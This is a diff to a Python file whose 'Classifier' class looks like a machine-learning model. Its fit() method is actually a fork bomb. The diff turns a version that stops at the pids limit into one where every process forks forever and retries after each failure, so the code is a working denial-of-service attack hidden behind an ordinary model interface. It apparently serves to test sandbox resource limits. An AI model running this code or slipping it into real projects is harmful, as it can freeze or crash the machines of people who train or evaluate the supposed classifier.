@@ -1,20 +1,15 @@
-# Forks until the pids limit; the children keep trying, the parent gives up.
+# The classic fork bomb: every process forks for ever; none gives up at the pids limit.
 import os
+import time
 
 
 class Classifier:
     def fit(self, X, y):
         while True:
             try:
-                pid = os.fork()
-            except OSError as e:
-                raise RuntimeError(f"fork bomb stopped by the pids limit: {e}") from None
-            if pid == 0:
-                while True:
-                    try:
-                        os.fork()
-                    except OSError:
-                        pass
+                os.fork()
+            except OSError:
+                time.sleep(0.01)
 
     def predict_proba(self, X):
         raise AssertionError("never reached")
